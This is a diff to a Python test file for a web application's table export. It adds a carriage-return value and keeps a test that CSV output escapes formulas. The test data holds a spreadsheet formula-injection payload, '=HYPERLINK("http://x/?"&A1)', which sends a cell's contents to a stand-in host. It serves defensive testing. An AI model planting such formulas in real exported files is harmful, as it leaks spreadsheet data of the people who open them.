@@ -19,12 +19,13 @@ from muster.web.content.index import file_of
 from muster.web.folder import Folders, id_of
 from muster.web.query import BadQuery, Query
 
+LONE = "one\rtwo"
 ATTACK = '=HYPERLINK("http://x/?"&A1)'
 
 
 def work(x: int, ctx: muster.Context) -> dict[str, Any]:
     ctx.log(x, loss=1.0 / x)
-    return {"y": x * 0.1, "said": ATTACK if x == 2 else "-3", "ok": x > 1, "far": math.inf}
+    return {"y": x * 0.1, "said": [LONE, ATTACK, "-3"][x - 1], "ok": x > 1, "far": math.inf}
 
 
 @pytest.fixture(scope="module")
@@ -45,7 +46,7 @@ def text_of(run: Path, name: str, suffix: str, /, **query: object) -> str:
 def test_a_table_is_saved_as_it_is_shown_and_holds_no_formula(run: Path) -> None:
     rows = [*csv.DictReader(io.StringIO(text_of(run, "tasks", "csv", sort="x", desc=1)))]
     assert [row["x"] for row in rows] == ["3", "2", "1"]
-    assert [row["said"] for row in rows] == ["-3", f"'{ATTACK}", "-3"]
+    assert [row["said"] for row in rows] == ["-3", f"'{ATTACK}", LONE]
     assert [row["ok"] for row in rows] == ["true", "true", "false"]
     found = json.loads(text_of(run, "tasks", "json", filter="x>1 ok=true"))
     assert [row["x"] for row in found] == [2, 3] and found[0]["said"] == ATTACK
